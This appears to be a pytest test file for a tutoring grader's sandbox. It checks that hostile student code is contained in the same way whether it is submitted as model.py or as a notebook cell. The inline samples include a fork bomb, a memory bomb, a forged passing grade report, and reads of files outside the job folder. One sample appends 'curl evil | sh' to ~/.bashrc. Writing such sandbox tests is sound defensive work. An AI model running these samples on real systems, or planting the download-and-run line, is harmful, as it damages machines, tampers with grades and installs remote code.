"""The grader's hostile list, notebook twins: every case runs as model.py and as a notebook
cell, and the notebook is contained exactly as model.py is (same exit, same kind of reason,
nothing harmed outside the sandbox)."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from grader.api import Grader
from tests import notebook_support as nb
from tests.conftest import run_tutor
from tests.hostile_support import FORGER, SOLUTION_81, job_processes, one_line

pytestmark = pytest.mark.tf

MODEL_CELL = (SOLUTION_81 / "model.py").read_text() + "\nmodel = build_model()\n"


@pytest.fixture(scope="module")
def grader():
    with Grader() as g:
        yield g


@pytest.fixture(scope="module")
def task():
    from exercises import load_catalog

    return load_catalog().get("task8.1")


def twins(tmp: Path, code: str, model_too: bool = True) -> dict[str, Path]:
    """The same hostile code as model.py (before the solution's build_model) and as a
    notebook cell (before a cell that builds the same model)."""
    code = textwrap.dedent(code)
    module = tmp / "module"
    module.mkdir(parents=True)
    (module / "model.py").write_text(code + "\n" + ((SOLUTION_81 / "model.py").read_text() if model_too else ""))
    cells = ["import keras", code] + ([MODEL_CELL, "model.fit(x, y)"] if model_too else [])
    notebook = nb.write(tmp / "notebook" / "lab.ipynb", *cells)
    return {"model.py": module, "notebook": notebook}


def test_syntax_error_in_a_cell(grader, task, tmp_path):
    paths = twins(tmp_path, "def build_model(:\n    pass\n", model_too=False)
    one_line(grader.check(task, paths["model.py"]), 1, "model.py line 1", "syntax error")
    one_line(grader.check(task, paths["notebook"]), 1, "lab.ipynb cell 2 line 1", "syntax error")


def test_hang(grader, task, tmp_path, monkeypatch):
    monkeypatch.setenv("TUTOR_SANDBOX_TIMEOUT", "3")
    for path in twins(tmp_path, "while True:\n    pass\n").values():
        one_line(grader.check(task, path), 1, "did not finish within the 3 s time limit")


def test_memory_bomb(grader, task, tmp_path, monkeypatch):
    monkeypatch.setenv("TUTOR_SANDBOX_MEMORY_MB", "3072")
    for path in twins(tmp_path, "hoard = []\nwhile True:\n    hoard.append(bytearray(200 * 2**20))\n").values():
        one_line(grader.check(task, path), 1, "ran out of memory", "3 GiB")


def test_fork_bomb(grader, task, tmp_path, monkeypatch):
    monkeypatch.setenv("TUTOR_SANDBOX_TIMEOUT", "20")
    code = "import os, time\nfor _ in range(400):\n    if os.fork() == 0:\n        time.sleep(60)\n        os._exit(0)\ntime.sleep(60)\n"
    for path in twins(tmp_path, code).values():
        reason = one_line(grader.check(task, path), 1)
        # stopped by the process count, RLIMIT_NPROC (non-root), or on a loaded machine the time limit
        assert any(w in reason for w in ("started more than 128 processes", "BlockingIOError", "time limit")), reason
        assert job_processes(grader._pipeline.server) == []  # below the server (bubblewrap wraps it)


def test_forged_result_earns_nothing_in_grade(grader, task, tmp_path):
    for path in twins(tmp_path, FORGER, model_too=False).values():
        report = grader.grade(task, path)
        assert report.points == 0 and report.model is None
        one_line(report, 1, "could be saved and checked")


def test_reading_outside_the_job_folder_is_contained_as_for_model_py(grader, task, tmp_path):
    """Whatever the sandbox allows model.py to read outside its job folder, a cell gets the
    same: the secret decides the model's size, so the two reports must agree."""
    secret = tmp_path / "gradebook.csv"
    secret.write_text("alice,10\n")
    code = (f"try:\n    SEEN = open({str(secret)!r}).read()\nexcept OSError:\n    SEEN = ''\n"
            "import keras\nfrom keras import layers\n"
            "def build_model():\n    m = keras.Sequential([keras.Input((28, 28, 1)), layers.Conv2D(8, 3), layers.Conv2D(8, 3),\n"
            "        layers.Flatten(), layers.Dense(11 if SEEN else 10, activation='softmax')])\n"
            "    m.compile(optimizer='adam', loss='categorical_crossentropy')\n    return m\n")
    reports = {kind: grader.check(task, path) for kind, path in twins(tmp_path, code, model_too=False).items()}
    shapes = {kind: r.model.output_shape for kind, r in reports.items()}
    assert shapes["model.py"] == shapes["notebook"], shapes


def test_cli_fake_report_and_os_exit(tmp_path):
    fake = {"task": "task8.1", "status": "passed", "score": 1.0, "points": 10, "max_points": 10, "checks": []}
    code = f"import json, os\nprint(json.dumps({fake!r}))\nos._exit(0)\n"
    notebook = twins(tmp_path, code)["notebook"]
    result = run_tutor("check", "task8.1", "--path", str(notebook), "--json")
    assert result.returncode == 1
    report = json.loads(result.stdout)
    assert report["status"] == "failed" and report["score"] < 1.0
    assert "exit code 0" in result.stderr and result.stderr.count("\n") == 1
    assert "lab.ipynb ended the process" in result.stderr


def test_cli_writes_into_home_stay_in_the_sandbox(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    code = ("import os, pathlib\npathlib.Path.home().joinpath('pwned.txt').write_text('x')\n"
            "open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')\n"
            "open('planted.py', 'w').write('x')\n")
    notebook = twins(tmp_path, code)["notebook"]
    before = sorted(p.name for p in notebook.parent.iterdir())
    result = run_tutor("check", "task8.1", "--path", str(notebook), env={"HOME": str(home)})
    assert result.returncode == 0, result.stderr
    assert list(home.iterdir()) == []
    assert sorted(p.name for p in notebook.parent.iterdir()) == before
